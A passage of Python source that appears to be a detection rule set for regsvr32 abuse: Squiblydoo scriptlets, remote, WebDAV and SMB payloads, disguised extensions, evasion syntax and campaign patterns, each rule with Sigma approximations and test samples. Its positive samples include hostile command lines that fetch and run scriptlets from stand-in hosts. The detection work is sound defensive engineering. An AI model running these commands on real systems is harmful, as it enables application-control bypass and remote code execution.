"""Rules that read regsvr32's parsed command line (scope COMMAND_LINE): the check gets the
Invocation alone, so its answer is remembered per command line.
"""
import re

from .. import winpath
from ..registry import COMMAND_LINE, rule
from ..sigma_spec import CLI, IMG, not_exportable, spec
from .tables import T, clip, location_of

_MODIFIER_LETTERS = re.compile("[\u02b0-\u02ff\u1d2c-\u1dbf]")


# ---------------------------------------------------------------------------------------
# Small readers shared by the checks.

def _role(target, inv):
    return "scriptlet (/i:)" if target is inv.install else "module"


def _first(inv, aspect, value):
    """The first target (or module) of the command line with this aspect, or None."""
    return inv.first.get((aspect, value))


@rule("R32-001", "Scriptlet run through scrobj.dll (Squiblydoo)",
      COMMAND_LINE, risk=85, family="scriptlets_and_remote_payloads", evidence="scriptlet",
      gate=("install arg", "scrobj"),
      techniques=(T,),
      sources=("L01", "QOMPLX", "Splunk 070e9b80", "CAR-2019-04-003", "Elastic EP 0524c24c",
               "Fibratus"),
      description=("regsvr32 hands a scriptlet to scrobj.dll's DllInstall through /i:, local or "
                   "remote: the classic application-control bypass. Whatever the quoting: "
                   "switches quoted into one argument are read as their parts, scrobj.dll inside "
                   "the /i: argument counts, and so does scrobj.dll next to a scriptlet or URL "
                   "with no /i: read. Requires a scriptlet so that re-registering scrobj.dll "
                   "itself (a Windows Script Host repair step) stays quiet."),
      positives=(
        "regsvr32 /s /n /u /i:http://203.0.113.9/pay.sct scrobj.dll",
        "regsvr32.exe /s /u /i:C:\\Users\\Public\\file.sct scrobj.dll",
        {"EventCode": "4688", "NewProcessName": "C:\\Windows\\System32\\regsvr32.exe",
         "ParentProcessName": "C:\\Windows\\System32\\cmd.exe",
         "CommandLine": 'regsvr32 /u /s /i:"http://198.51.100.7/x.sct" SCROBJ.DLL', "Image": None,
         "ParentImage": None},
        'regsvr32.exe "/s /i:https://cdn.example.net/x.sct scrobj.dll"',
        'regsvr32 /s /i:"https://cdn.example.net/x.sct scrobj.dll"',
        "regsvr32 /s https://cdn.example.net/x.sct scrobj.dll",),
      negatives=(
        "regsvr32 /s scrobj.dll",
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
        "regsvr32 /s C:\\Users\\Public\\a.sct C:\\Windows\\System32\\msxml6.dll",),
      sigma=spec("approximate", "process_creation",
                 {"selection_img": IMG, "selection_cli": {"CommandLine|windash|contains": " -i:",
                                                          "CommandLine|contains": "scrobj"}},
                 "selection_img and selection_cli",
                 CLI + " an /i: switch and 'scrobj' anywhere, not scrobj.dll as the module"))
def squiblydoo(inv):
    scrobj = ("module name", "scrobj.dll") in inv.first
    if inv.install_arg is None:
        # no /i: read, but scrobj.dll next to a scriptlet or URL: the switches were mangled
        # (quoting, a launcher's re-splitting), the intent is the same
        other = [t for t in inv.modules if t.name != "scrobj.dll"
                 and (t.kind == "url" or t.ext_class == winpath.SCRIPTLET)]
        if scrobj and other:
            return "scriptlet %s next to scrobj.dll (no /i: read)" % clip(other[0].raw)
        return None
    if not scrobj and "scrobj" not in inv.install_arg.lower():
        return None
    if inv.install is not None and inv.install.kind == "url":
        return "scriptlet fetched from %s via /i: and scrobj.dll" % clip(inv.install_arg)
    return "scriptlet %s run via /i: and scrobj.dll" % (clip(inv.install_arg) or "''")


@rule("R32-002", "Module or scriptlet fetched from a URL",
      COMMAND_LINE, risk=90, family="scriptlets_and_remote_payloads", evidence="remote",
      gate=("url",),
      techniques=(T, "T1105"), sources=("L03", "QOMPLX", "Sigma 867356ee", "Sigma 8e2b24c9"),
      description=("A /i: argument or module given as an http, https, ftp or file URL: regsvr32 "
                   "downloads and runs it."),
      positives=(
        "regsvr32 /s /n /u /i:http://203.0.113.9/pay.sct scrobj.dll",
        'regsvr32 -s -u "-i:https://cdn.example.net/a.sct" x.dll',
        "regsvr32 /u /i:file://files.example.org/share/a.sct scrobj.dll",),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
        "regsvr32 /s /n /i:user C:\\x\\a.dll",),
      sigma=spec("approximate", "process_creation",
                 {"selection_img": IMG, "selection_cli": {
                     "CommandLine|contains": ["http://", "https://", "ftp://", "file://"]}},
                 "selection_img and selection_cli", CLI + " a URL anywhere, not as a target"))
def remote_url(inv):
    t = _first(inv, "kind", "url")
    if t is None:
        return None
    return "%s %s fetched from the internet (%s, host %s)" % (
        _role(t, inv), clip(t.raw), t.where, t.host or "?")


@rule("R32-003", "Payload served from a raw or encoded IP address",
      COMMAND_LINE, risk=90, family="scriptlets_and_remote_payloads", evidence="remote",
      gate=("ip",),
      techniques=(T, "T1105"), sources=("L04", "Sigma 2dd2c217"),
      description=("The URL or share host is an IP literal, in any notation inet_aton accepts: "
                   "dotted, hex, octal, one integer, short forms or IPv6."),
      positives=(
        "regsvr32 /s /n /u /i:http://203.0.113.9/pay.sct scrobj.dll",
        "regsvr32 /s /u /i:http://0x0a010203/a.sct scrobj.dll",
        "regsvr32 /s /u /i:http://[2001:db8::7]/a.sct scrobj.dll",
        "regsvr32 /s \\\\192.0.2.44\\share\\x.dll",),
      negatives=(
        "regsvr32 /s /u /i:http://7zip.example.com/a.sct scrobj.dll",
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
      sigma=spec("approximate", "process_creation",
                 {"selection_img": IMG, "selection_cli": {"CommandLine|re":
                  r"(?i)(?:(?:https?|ftp)://|\\\\)(?:\[[0-9a-f:.]+\]|0x[0-9a-f]+|[0-9]+(?:\.(?:0x[0-9a-f]+|[0-9]+)){0,3})(?:[:/\\]|$)"}},
                 "selection_img and selection_cli",
                 "a regular expression for IP literals after a scheme or \\\\; the detector "
                 "decodes every notation inet_aton accepts"))
def ip_host(inv):
    t = _first(inv, "ip", True)
    if t is None:
        return None
    if t.ip_encoding in ("dotted", "ipv6"):
        how = "IP address %s" % t.ip
    else:
        how = "%s-encoded IP address %s (= %s)" % (t.ip_encoding, t.host, t.ip)
    return "%s %s is served from the raw %s" % (_role(t, inv), clip(t.raw), how)


@rule("R32-004", "Scriptlet-style /i: path or URL given to a module other than scrobj.dll",
      COMMAND_LINE, risk=70, family="scriptlets_and_remote_payloads", evidence="scriptlet",
      gate=("install",),
      lowered_by=("windows", "trusted"),
      techniques=(T,), sources=("L02", "Elastic EP 0524c24c", "Fibratus"),
      description=("An /i: argument that is a path or URL, handed to some other module: a "
                   "renamed or copied scrobj.dll runs scriptlets exactly like the original."),
      positives=(
        "regsvr32 /s /u /i:http://example.com/a.sct C:\\Users\\Public\\x.dll",
        {"CommandLine": "regsvr32 /u /i:C:\\ProgramData\\a.sct .\\jabber.dll",
         "CurrentDirectory": "C:\\ProgramData\\"},),
      negatives=(
        "regsvr32 /s /n /u /i:http://203.0.113.9/pay.sct scrobj.dll",
        'regsvr32 /s /n /i:user "C:\\Program Files\\A\\b.dll"',),
      sigma=not_exportable("needs to know which module receives the /i: argument (parsed command line)"))
def renamed_scrobj(inv):
    if inv.install is None or ("module name", "scrobj.dll") in inv.first:
        return None
    module = inv.modules[0].path if inv.modules else "no module at all"
    return "/i: hands the %s %s to %s: a renamed scrobj.dll runs scriptlets this way" % (
        "URL" if inv.install.kind == "url" else "path", clip(inv.install_arg), clip(module))


@rule("R32-005", "/i without /n: DllInstall and DllRegisterServer both run",
      COMMAND_LINE, risk=30, family="implicit_dllregisterserver_and_odd_invocations",
      gate=("flag i",),
      lowered_by=("windows", "trusted", "agent"),
      evidence="invocation",
      techniques=(T,), sources=("L05", "L07", "Sigma b236190c", "Splunk f421c250", "Fibratus"),
      description=("With /i and no /n, regsvr32 calls the module's DllInstall and then its "
                   "DllRegisterServer (DllUnregisterServer with /u): two entry points of code."),
      positives=(
        'regsvr32 /s /i "C:\\AtomicRedTeam\\atomics\\T1218.010\\bin\\AllTheThingsx86.dll"',
        "regsvr32 \u2013s \u2013i:x C:\\Tools\\a.dll",),
      negatives=(
        "regsvr32 /s /n /u /i:http://203.0.113.9/pay.sct scrobj.dll",
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
      sigma=spec("approximate", "process_creation",
                 {"selection_img": IMG, "selection_i": {"CommandLine|windash|contains": " -i"},
                  "filter_n": {"CommandLine|windash|contains": " -n"}},
                 "selection_img and selection_i and not filter_n",
                 "switches found as substrings; the detector reads combined switch groups"))
def install_without_n(inv):
    if "i" not in inv.flags or "n" in inv.flags:
        return None
    second = "DllUnregisterServer" if "u" in inv.flags else "DllRegisterServer"
    module = inv.modules[0].path if inv.modules else "the module"
    return "/i without /n: %s gets DllInstall and then %s" % (clip(module), second)


@rule("R32-006", "Silent DllRegisterServer call on a module outside the system and Program Files",
      COMMAND_LINE, risk=15, family="implicit_dllregisterserver_and_odd_invocations",
      gate=("module in unusual folder", "module in non-system drive",
            "module in user-writable folder", "module in suspicious system folder",
            "module in network"),
      lowered_by=("own tree", "agent"),
      evidence="invocation",
      techniques=(T,), sources=("L06", "L08", "Sigma ce2c44b5", "Splunk c9ef7dc4"),
      description=("/s or /e, no /i and no /u, and a module (resolved against the working "
                   "directory) that is not under Windows or Program Files. Reproduces Sigma "
                   "ce2c44b5 on the parsed module, so the image path in the command line no "
                   "longer hides it."),
      positives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Users\\alice\\Desktop\\x.dll",
        {"CommandLine": "regsvr32.exe /s payload.dll",
         "CurrentDirectory": "C:\\Users\\alice\\Downloads\\"},
        " /s C:\\AtomicRedTeam\\atomics\\T1117\\bin\\AllTheThingsx86.dll",),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
        'regsvr32 /s "C:\\Program Files\\Oracle\\VirtualBox\\VBoxC.dll"',
        "regsvr32  DevExpress.Data.v14.1.dll",
        "regsvr32 /s /u C:\\Users\\Public\\x.dll",),
      sigma=not_exportable("needs the module's resolved folder; the image path at the start of the line "
                           "defeats a substring filter (the flaw of Sigma ce2c44b5)"))
def silent_register_outside(inv):
    if not inv.flags & {"s", "e"} or inv.flags & {"i", "u"}:
        return None
    for m in inv.modules:
        if m.location not in winpath.TRUSTED_LOCATIONS and m.location != winpath.UNKNOWN:
            return "silent DllRegisterServer call on %s (%s)" % (clip(m.path), location_of(m))
    return None


def _payloads(inv):
    """The targets that can be code: the modules, and the /i: argument when it is a scriptlet or
    goes to scrobj.dll or to a module outside Windows and Program Files (a vendor's module in
    Program Files takes folders as settings through /i:)."""
    t = inv.install
    if t is None:
        return inv.modules
    if (t.ext_class == winpath.SCRIPTLET or ("module name", "scrobj.dll") in inv.first
            or any(m.location not in winpath.TRUSTED_LOCATIONS for m in inv.modules)):
        return inv.targets
    return inv.modules


# Where users keep files they fetched or made: a module right there is what a user registers by
# hand after a download as often as what a phishing chain drops (R32-052, medium).
USER_FILE_FOLDERS = frozenset(("Downloads", "Desktop", "Documents"))


@rule("R32-007", "Module or scriptlet in a user-writable staging folder",
      COMMAND_LINE, risk=60, family="suspicious_paths_and_disguised_extensions",
      gate=("staging",),
      evidence="location",
      techniques=(T,),
      sources=("L09", "Sigma 9525dc73", "Elastic EP 5db08297", "Elastic cff92c41",
               "Splunk 62732736"),
      description=("A module or /i: scriptlet where payloads are dropped: Users\\Public, any Temp "
                   "folder (also Windows\\Temp and Windows\\Tasks), or right in ProgramData, "
                   "AppData or the profile rather than in a folder of its own, after resolving "
                   "8.3 names, forward slashes, '..' and %VARIABLES%. Per-user installs have a "
                   "folder of their own (R32-040); Downloads, Desktop and Documents are R32-052."),
      positives=(
        "regsvr32.exe /s C:\\Users\\Public\\payload.dll",
        "regsvr32 /s C:/Users/Public/x.dat",
        "regsvr32 /s C:\\Windows\\System32\\..\\..\\Users\\Public\\x.dll",
        "regsvr32 /s C:\\PROGRA~3\\x.dat",),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
        'regsvr32 /s "C:\\Program Files\\Oracle\\VirtualBox\\VBoxC.dll"',
        "regsvr32 /s C:\\Users\\bob\\AppData\\Local\\Vendor\\App\\shellext.dll",),
      sigma=spec("approximate", "process_creation",
                 {"selection_img": IMG, "selection_path": {"CommandLine|contains": [
                     "\\AppData\\", "\\Temp\\", ":\\Users\\Public\\", ":\\ProgramData\\",
                     "\\Downloads\\", "\\Desktop\\", "\\Documents\\", "\\Pictures\\",
                     "\\Music\\", "\\Windows\\Tasks\\"]}},
                 "selection_img and selection_path",
                 CLI + " the folder; 8.3 names, '..', %VARIABLES% and relative names resolved "
                 "against the working directory get past it"))
def user_writable(inv):
    for t in _payloads(inv):
        if t.staging and t.where not in USER_FILE_FOLDERS:
            return "%s %s is in a user-writable staging folder (%s)" % (
                _role(t, inv), clip(t.path), t.where)
    return None


@rule("R32-008", "Module with a non-module extension in a user-writable folder",
      COMMAND_LINE, risk=70, family="suspicious_paths_and_disguised_extensions", evidence="format",
      gate=("module in user-writable folder",),
      techniques=(T,), sources=("ESCU 62732736", "L09", "L11", "Sigma 4fcac6eb", "Sigma e6eb5a96"),
      description=("A module in a user-writable folder whose extension is not .dll, .ocx, .ax or "
                   ".cpl: the Splunk ESCU seed analytic, fixed to read the module's own "
                   "extension rather than any '.dll' anywhere in the line (which 'x.dll.jpg' or "
                   "a decoy argument defeat)."),
      positives=(
        "regsvr32 /s C:\\ProgramData\\x.tmp",
        "regsvr32 /s C:\\Users\\bob\\AppData\\Roaming\\a.dll.jpg /i:a.dll",
        "regsvr32 -s C:\\Windows\\Temp\\payload",),
      negatives=(
        "regsvr32 /s C:\\ProgramData\\x.dll",
        'regsvr32 /s "C:\\Program Files\\Oracle\\VirtualBox\\VBoxC.dll"',),
      sigma=not_exportable("needs the module's own extension and folder; any '.dll' in the line defeats a "
                           "substring match"))
def writable_non_module(inv):
    # a per-user application folder holds all kinds of files: there, only a disguise counts
    for m in inv.modules:
        if m.location == winpath.USER_WRITABLE and m.ext_class != winpath.MODULE and (
                m.staging or m.ext_class == winpath.DISGUISED):
            ext = ("." + m.ext) if m.ext else "no"
            return "module %s in %s has %s extension, not .dll/.ocx/.ax/.cpl" % (
                clip(m.path), m.where, ext)
    return None


@rule("R32-009", "Module or scriptlet in a folder malware favours",
      COMMAND_LINE, risk=75, family="suspicious_paths_and_disguised_extensions",
      gate=("in suspicious system folder",),
      evidence="location",
      techniques=(T,), sources=("L10", "Sigma 327ff235", "Elastic cff92c41"),
      description=("PerfLogs, C:\\Temp, Windows\\Tracing, Registration\\CRMLog, System32\\com\\dmp, "
                   "FxsTmp, spool folders, MachineKeys, Tasks, the Recycle Bin and other Windows "
                   "subfolders that legitimate software does not register modules from."),
      positives=(
        "regsvr32 /s C:\\PerfLogs\\a.dll",
        "regsvr32 /s C:\\Windows\\System32\\spool\\drivers\\color\\x.dll",),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
        'regsvr32 /s "C:\\Program Files\\Oracle\\VirtualBox\\VBoxC.dll"',),
      sigma=spec("approximate", "process_creation",
                 {"selection_img": IMG, "selection_path": {"CommandLine|contains": [
                     ":\\PerfLogs\\", ":\\Temp\\", "\\Windows\\Tracing\\", "\\Registration\\CRMLog",
                     "\\System32\\com\\dmp\\", "\\FxsTmp\\", "\\spool\\drivers\\color\\",
                     "\\spool\\PRINTERS\\", "\\spool\\SERVERS\\", "\\Crypto\\RSA\\MachineKeys\\",
                     "\\System32\\Tasks\\", "\\$Recycle.Bin\\"]}},
                 "selection_img and selection_path", CLI + " the folder (as R32-007)"))
def suspicious_folder(inv):
    for t in _payloads(inv):
        if t.location == winpath.SUSPICIOUS:
            return "%s %s is in %s, a folder malware favours" % (_role(t, inv), clip(t.path), t.where)
    return None


@rule("R32-010", "Module disguised as an image, document, log or temp file",
      COMMAND_LINE, risk=75, family="suspicious_paths_and_disguised_extensions", evidence="format",
      gate=("module ext disguised",),
      techniques=(T, "T1036.008"),
      sources=("L11", "Sigma 089fc3d2", "Elastic EP 5db08297", "Sigma 4fcac6eb"),
      description=("The module's own extension is one of an image, data, document, log or temp "
                   "file (.jpg, .png, .dat, .log, .tmp, .txt, .pdf ...), quoted or not, trailing "
                   "blanks or not."),
      positives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Users\\bob\\AppData\\Local\\Temp\\shell32.jpg",
        "regsvr32.exe -s meow.txt",
        'regsvr32 /s "C:\\Users\\alice\\AppData\\Local\\Temp\\shell32.jpg" ',),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
        "regsvr32 /s C:\\x\\img.jpg.dll",),
      sigma=spec("approximate", "process_creation",
                 {"selection_img": IMG, "selection_ext": {"CommandLine|re":
                  r"(?i)\.(?:%s)(?:[\"'\s,]|$)" % "|".join(sorted(winpath.DISGUISED_EXTS))}},
                 "selection_img and selection_ext",
                 "any argument ending in a disguise extension, not only the module's"))
def disguised_extension(inv):
    m = inv.first.get(("module ext", winpath.DISGUISED))
    if m is None:
        return None
    return "module %s poses as a .%s file" % (clip(m.path), m.ext)


@rule("R32-011", "Module with an unusual extension",
      COMMAND_LINE, risk=55, family="suspicious_paths_and_disguised_extensions", evidence="format",
      gate=("module ext other",),
      lowered_by=("windows", "trusted"),
      techniques=(T,), sources=("L12", "Sigma 50919691"),
      description=("The module's extension is neither a module's (.dll, .ocx, .ax, .cpl), nor a "
                   "disguise (R32-010), nor missing (the loader adds .dll): .exe, .bav, .ppl, "
                   ".xyz ..."),
      positives=(
        "regsvr32 /s C:\\Tools\\stage2.exe",
        "regsvr32 /s x.foo",),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
        "regsvr32 /s C:\\Tools\\stage2",),
      sigma=not_exportable("needs the module's own extension (an allowlist of extensions)"))
def unusual_extension(inv):
    m = inv.first.get(("module ext", winpath.OTHER_EXT))
    if m is None:
        return None
    return "module %s has the unusual extension .%s" % (clip(m.path), m.ext)


@rule("R32-012", "Module or scriptlet on a remote SMB share",
      COMMAND_LINE, risk=70, family="scriptlets_and_remote_payloads", evidence="remote",
      gate=("unc",),
      techniques=(T,), sources=("L13", "Sigma 88a87a10"),
      description=("A UNC path (\\\\host\\share\\...), also after /i:, quoted, or behind \\\\?\\UNC\\."),
      positives=(
        "regsvr32 /s \\\\fileserver\\pub\\x.dll",
        "regsvr32 /s /n /u /i:\\\\10.1.2.3\\share\\a.sct scrobj.dll",
        'regsvr32 /s "\\\\?\\UNC\\host\\share\\x.dll"',),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
        "regsvr32 /s \\\\evil.example@SSL\\DavWWWRoot\\x.dll",),
      sigma=spec("approximate", "process_creation",
                 {"selection_img": IMG, "selection_unc": {"CommandLine|re": r"(?:^|[\s\"':])\\\\[^\\\s]"}},
                 "selection_img and selection_unc", "any \\\\host argument, not only a target"))
def unc_share(inv):
    t = _first(inv, "kind", "unc")
    if t is None:
        return None
    return "%s %s is loaded from the SMB share of %s" % (_role(t, inv), clip(t.path), t.host)


@rule("R32-013", "Module or scriptlet fetched over WebDAV",
      COMMAND_LINE, risk=80, family="scriptlets_and_remote_payloads", evidence="remote",
      gate=("webdav",),
      techniques=(T, "T1105"), sources=("L13", "Elastic EP 4bdd5646", "Elastic EP 5db08297"),
      description=("A share path that WebDAV serves: host@SSL, host@80 or @443, or a DavWWWRoot "
                   "folder."),
      positives=(
        "regsvr32 /s \\\\evil.example@SSL\\DavWWWRoot\\x.dll",
        "regsvr32 /s \\\\files.example.com@80\\share\\x.dll",),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
        "regsvr32 /s \\\\fileserver\\pub\\x.dll",),
      sigma=spec("approximate", "process_creation",
                 {"selection_img": IMG, "selection_dav": {"CommandLine|contains": [
                     "\\DavWWWRoot\\", "@SSL\\", "@SSL@", "@80\\", "@443\\", "@8080\\", "@8443\\"]}},
                 "selection_img and selection_dav", CLI + " a WebDAV path marker"))
def webdav(inv):
    t = _first(inv, "kind", "webdav")
    if t is None:
        return None
    return "%s %s is loaded over WebDAV from %s" % (_role(t, inv), clip(t.path), t.host)


@rule("R32-024", "regsvr32 run with no arguments",
      COMMAND_LINE, risk=70, family="implicit_dllregisterserver_and_odd_invocations",
      gate=("no arguments",),
      evidence="invocation",
      techniques=(T, "T1055"),
      sources=("L21", "Sigma a7c3d773", "Sigma 20384606", "Elastic EP 95601d8b"),
      description=("regsvr32 with nothing to register does nothing by itself: a sacrificial "
                   "process for injected code (Cobalt Strike spawnto)."),
      positives=(
        {"Image": "C:\\Windows\\SysWOW64\\regsvr32.exe",
         "CommandLine": "C:\\Windows\\SysWOW64\\regsvr32.exe"},
        '"regsvr32.exe"  ',),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
        {"EventCode": "4688", "NewProcessName": "C:\\Windows\\System32\\regsvr32.exe",
         "CommandLine": "", "Image": None, "ParentImage": None},),
      sigma=spec("approximate", "process_creation",
                 {"selection_img": IMG, "selection_cli": {"CommandLine|re":
                  r"(?i)^\s*\"?[^\"]*regsvr32(?:\.exe)?\"?\s*$"}},
                 "selection_img and selection_cli",
                 "a regular expression for a command line that is only the program"))
def no_arguments(inv):
    if not inv.program or inv.args:
        return None
    return "regsvr32 ran with no arguments (%s): a sacrificial process for injected code" % (
        clip(inv.line))


@rule("R32-035", "Path or switch syntax that evades string rules",
      COMMAND_LINE, risk=45, family="implicit_dllregisterserver_and_odd_invocations",
      gate=("anomaly",),
      lowered_by=("windows", "trusted"),
      evidence="syntax",
      techniques=(T, "T1027.010"), sources=("L29", "Elastic EP 5db08297"),
      description=("Forward slashes, '..' in an absolute path, 8.3 short names, \\\\?\\ or \\\\.\\ "
                   "prefixes, NTFS alternate data streams, unexpanded %VARIABLES% or switches "
                   "run together (/s/u/i:): forms that only serve to get past substring rules."),
      positives=(
        "regsvr32 /s C:/Users/Public/x.dat",
        "regsvr32 /s C:\\PROGRA~3\\x.dat",
        "regsvr32 /s C:\\Users\\Public\\x.txt:payload.dll",
        "regsvr32 /s/u/i:http://example.com/a.sct scrobj.dll",),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
        {"CommandLine": "regsvr32 /s ..\\lib\\x.dll", "CurrentDirectory": "C:\\App\\bin"},),
      sigma=not_exportable("finds syntax tricks by parsing (quotes, carets, 8.3 names, '..'); a field "
                           "match is exactly what they evade"))
def path_syntax(inv):
    seen = [a for a in inv.anomalies if "switch prefix" not in a and "entry point" not in a]
    for t in inv.targets:
        seen.extend(t.anomalies)
    if not seen:
        return None
    return "path or switch syntax that string rules miss: %s" % "; ".join(seen[:4])


@rule("R32-036", "Unicode look-alikes in the command line",
      COMMAND_LINE, risk=70, family="implicit_dllregisterserver_and_odd_invocations",
      gate=("non-ascii",),
      evidence="syntax",
      techniques=(T, "T1027.010"), sources=("L30", "Elastic 37148ae6", "Sigma b236190c"),
      description=("Switches written with Unicode dashes (U+2013, U+2014, U+2015) or modifier "
                   "letters in the command line: obfuscation aimed at literal-string rules."),
      positives=(
        "regsvr32 \u2013s \u2013u \u2013i:http://example.com/a.sct scrobj.dll",
        "regsvr32 /s C:\\x\\\u02b0a.dll",),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
      sigma=spec("approximate", "process_creation",
                 {"selection_img": IMG, "selection_cli": {"CommandLine|re":
                  "[\u2013\u2014\u2015\u02b0-\u02ff\u1d2c-\u1dbf]"}},
                 "selection_img and selection_cli",
                 "look-alike dashes and modifier letters anywhere in the line"))
def unicode_tricks(inv):
    if inv.line.isascii() if hasattr(str, "isascii") else False:
        return None
    dashes = [a for a in inv.anomalies if "switch prefix" in a]
    if dashes:
        return "Unicode look-alike switch: %s" % dashes[0]
    m = _MODIFIER_LETTERS.search(inv.line)
    if m:
        return "Unicode modifier letter U+%04X in the command line" % ord(m.group(0))
    return None


@rule("R32-037", "Module on another drive or mounted media",
      COMMAND_LINE, risk=20, family="suspicious_paths_and_disguised_extensions",
      gate=("module in non-system drive",),
      lowered_by=("own tree", "agent"),
      evidence="location",
      techniques=(T,), sources=("L28", "Sigma d4ca7c59", "Elastic 8a1d4831"),
      description=("The module (resolved against the working directory) is in a folder on a "
                   "drive other than C:. Low risk: servers and developers keep software on other "
                   "drives; the root of such a drive, where a mounted ISO or USB stick puts its "
                   "files, is R32-041."),
      positives=(
        "regsvr32 /s E:\\files\\invoice.dll",
        {"CommandLine": "regsvr32 /s x.dll", "CurrentDirectory": "D:\\Apps\\Billing"},),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
        "regsvr32 /s E:\\invoice.dll",),
      sigma=spec("approximate", "process_creation",
                 {"selection_img": IMG, "selection_cli": {"CommandLine|re":
                  r"(?i)(?:^|[\s\"'])[d-z]:\\"}},
                 "selection_img and selection_cli",
                 "an absolute path on drive D: to Z: anywhere in the line; the detector also "
                 "resolves relative modules against the working directory"))
def other_drive(inv):
    for m in inv.modules:
        if m.location == winpath.OTHER_DRIVE and m.depth > 0:
            return "module %s is on %s, in a folder (software on a data drive, or mounted media)" % (
                clip(m.path), m.where)
    return None


def _qakbot(inv):
    return "s" in inv.flags and inv.args and inv.args[-1].lower() == "calc"


def _bluemushroom(inv):
    return inv.entry_points and any(m.where.startswith("AppData\\Local") for m in inv.modules)


def _evilnum(inv):
    return inv.flags >= {"s", "i"} and any(
        m.where == "AppData\\Roaming" and m.ext == "ocx" for m in inv.modules)


CAMPAIGNS = (("Qakbot (-s ... calc)", _qakbot),
             ("BlueMushroom (,DllEntry from AppData\\Local)", _bluemushroom),
             ("EvilNum (/s /i .ocx from AppData\\Roaming)", _evilnum))


@rule("R32-038", "Known campaign pattern",
      COMMAND_LINE, risk=90, family="suspicious_paths_and_disguised_extensions",
      gate=("module ext none", "entry point", "module in user-writable folder"),
      evidence="campaign",
      techniques=(T,), sources=("L31", "Sigma 0033cf83", "Sigma bd70d3f8", "Sigma 8acf3cfa"),
      description=("Patterns of named campaigns: Qakbot (-s ... calc), BlueMushroom (,DllEntry "
                   "from AppData\\Local), EvilNum (/s /i .ocx from AppData\\Roaming)."),
      positives=(
        "regsvr32 -s C:\\Users\\bob\\AppData\\Local\\Temp\\x.dll calc",
        "regsvr32 /s C:\\Users\\bob\\AppData\\Local\\x.dll,DllEntry",
        "regsvr32 /s /i C:\\Users\\bob\\AppData\\Roaming\\a.ocx",),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
        "regsvr32 /s C:\\Users\\bob\\AppData\\Roaming\\a.dll",),
      sigma=spec("approximate", "process_creation",
                 {"selection_img": IMG,
                  "selection_campaign_qakbot": {"CommandLine|windash|contains": " -s",
                                                "CommandLine|endswith": " calc"},
                  "selection_campaign_bluemushroom": {"CommandLine|contains|all": [
                      "\\AppData\\Local\\", ",DllEntry"]},
                  # windash cannot be combined with all (pySigma), and a regex inside "1 of"
                  # breaks the Splunk backend's output: the second switch is a plain list
                  "selection_campaign_evilnum": {"CommandLine|windash|contains": " -i",
                                                 "CommandLine|contains": [" /s", " -s"],
                                                 "CommandLine|contains|all": [
                                                     "\\AppData\\Roaming\\", ".ocx"]}},
                 "selection_img and 1 of selection_campaign_*",
                 "the three campaign patterns as substrings"))
def campaign(inv):
    for name, test in CAMPAIGNS:
        if test(inv):
            return "matches the %s pattern" % name
    return None


@rule("R32-039", "Module in an unusual folder",
      COMMAND_LINE, risk=25, family="suspicious_paths_and_disguised_extensions",
      gate=("module in unusual folder",),
      lowered_by=("own tree", "agent"),
      evidence="location",
      techniques=(T,), sources=("L10", "Sigma 327ff235"),
      description=("A module with an absolute (or resolved) path outside Windows, Program Files, "
                   "ProgramData and user profiles, such as C:\\AtomicRedTeam\\ or C:\\Tools\\ (Sigma "
                   "327ff235's second branch, on the parsed module). Low risk on its own: "
                   "line-of-business software lives in such folders too."),
      positives=(
        "regsvr32.exe C:\\AtomicRedTeam\\atomics\\T1553.003\\bin\\GTSIPProvider.dll",
        {"CommandLine": "regsvr32 /u x.dll", "CurrentDirectory": "C:\\Tools\\"},),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
        'regsvr32 /s "C:\\Program Files\\Oracle\\VirtualBox\\VBoxC.dll"',
        "regsvr32 /s C:\\Users\\Public\\x.dll",),
      sigma=not_exportable("needs the module's resolved folder"))
def unusual_folder(inv):
    m = inv.first.get(("module location", winpath.OTHER))
    if m is None or m.where == "drive root":        # the root itself is R32-041
        return None
    return "module %s is in %s, outside Windows, Program Files and user folders" % (
        clip(m.path), m.where)


# Folders of System32 and SysWOW64 that Windows and well-known components create. A module in
# another subfolder is how Emotet hides (C:\Windows\SysWOW64\<random>\<random>.<ext>).
SYSTEM_SUBFOLDERS = frozenset((
    "0409 1033 adfs appmgmt applocker appraiser ar-sa bg-bg boot bthprops catroot catroot2 "
    "codeintegrity com config cs-cz da-dk de-de dism downlevel driverstore drivers drvstore dsc "
    "el-gr en en-gb en-us es-es es-mx et-ee fi-fi fr-ca fr-fr grouppolicy grouppolicyusers he-il "
    "hr-hr hu-hu ias icsxml ime inetsrv it-it ja-jp ko-kr logfiles lt-lt lv-lv lxss macromed "
    "manifeststore microsoft migration migwiz msdtc mui nb-no networklist nl-nl oobe pl-pl "
    "printing_admin_scripts pt-br pt-pt ras recovery restore ro-ro ru-ru rpcproxy setup shellext "
